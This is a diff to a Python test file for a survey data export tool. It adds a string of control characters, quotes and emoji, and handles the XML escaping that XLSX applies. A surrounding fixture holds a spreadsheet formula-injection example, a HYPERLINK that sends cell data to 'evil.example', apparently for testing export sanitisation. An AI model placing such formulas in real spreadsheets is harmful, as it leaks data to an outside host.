@@ -3,6 +3,7 @@
 import io
 import json
 import math
+import re
 import uuid
 import zipfile
 
@@ -22,6 +23,7 @@ from sensemaker.export.columns import wide_layout
 from sensemaker.generate import generate_fragments
 
 SURVEY = "all_kinds"
+ODD = 'Citat "så här", \\ bakstreck, \x00 noll, \x1f, \u2028 radbrytning,\r\n🙂 och, semikolon;'
 PERSONAL = "Ring mig på 070-123 45 67 eller skriv till anna@example.se."
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1, "Klicka")',
@@ -82,11 +84,10 @@ def stored(database, all_kinds):
             prompt="hard-day",
             collected_at="2026-10-01T10:00:00+02:00",
         ),  # fmt: skip
-        body(
-            story=PERSONAL, answers={"role": "relative", "topics": ["sleep", "food"]}
-        ),  # fmt: skip
+        body(story=PERSONAL, answers={"role": "relative", "topics": ["sleep", "food"]}),
+        body(story=ODD, title=None),
     ]
-    assert store(database, all_kinds, written) == ["created"] * 3
+    assert store(database, all_kinds, written) == ["created"] * 4
     return database
 
 
@@ -154,10 +155,20 @@ def answers_from_wide(survey, row: dict) -> dict:
     return answers
 
 
+# XLSX is XML, which cannot hold control characters: they are written as _xHHHH_, which
+# Excel shows as the character and openpyxl leaves as it is.
+XML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")
+
+
+def _unescape(match) -> str:
+    return chr(int(match.group(1), 16))
+
+
 def assert_same_fragments(database, survey, frame: pd.DataFrame, exact=True):
     """Every exported row gives back the stored fragment: fields, texts and numbers.
 
-    `exact=False` allows the last of 17 digits to differ (XLSX keeps 16, Excel uses 15).
+    `exact=False` is for XLSX: the last of 17 digits may differ (it keeps 16, Excel
+    uses 15) and control characters come escaped.
     """
     records = frame.to_dict("records")
     assert len(records) == db.count_fragments(database, SURVEY)
@@ -165,7 +176,8 @@ def assert_same_fragments(database, survey, frame: pd.DataFrame, exact=True):
         stored = db.get_fragment(database, record["fragment_id"])
         for field in ("language", "prompt", "collected_at", "received_at", "source"):
             assert record[field] == stored[field], field
-        assert unprefixed(record["story"]) == stored["story"]
+        story = record["story"] if exact else XML_ESCAPE.sub(_unescape, record["story"])
+        assert unprefixed(story) == stored["story"]
         title = record["title"] if isinstance(record["title"], str) else None
         assert unprefixed(title) == stored["title"]
         rebuilt = answers_from_wide(survey, record)
@@ -252,7 +264,7 @@ def test_zip_bundles_data_codebook_and_survey(unmasked, all_kinds):
                                           "survey.yaml"]  # fmt: skip
     assert yaml.safe_load(archive.read("survey.yaml")) == all_kinds.definition
     codebook = json.loads(archive.read("codebook.json"))
-    assert codebook["rows"] == db.count_fragments(unmasked, SURVEY) == 63
+    assert codebook["rows"] == db.count_fragments(unmasked, SURVEY) == 64
     assert codebook["personal_data_masked"] is False
     markdown = archive.read("codebook.md").decode()
     assert "`safety__staff`" in markdown and "What gave a sense of safety?" in markdown
@@ -306,7 +318,7 @@ def test_chunked_reading_gives_the_same_rows(stored, all_kinds):
     layout = wide_layout(all_kinds)
     small = list(export_rows.wide_batches(stored, layout, size=7))
     whole = list(export_rows.wide_batches(stored, layout, size=10_000))
-    assert len(small) == 9 and len(whole) == 1
+    assert len(small) == 10 and len(whole) == 1
     # Each chunk has its own dictionaries, so compare the values.
     assert pa.Table.from_batches(small).to_pylist() == pa.Table.from_batches(whole).to_pylist()
 
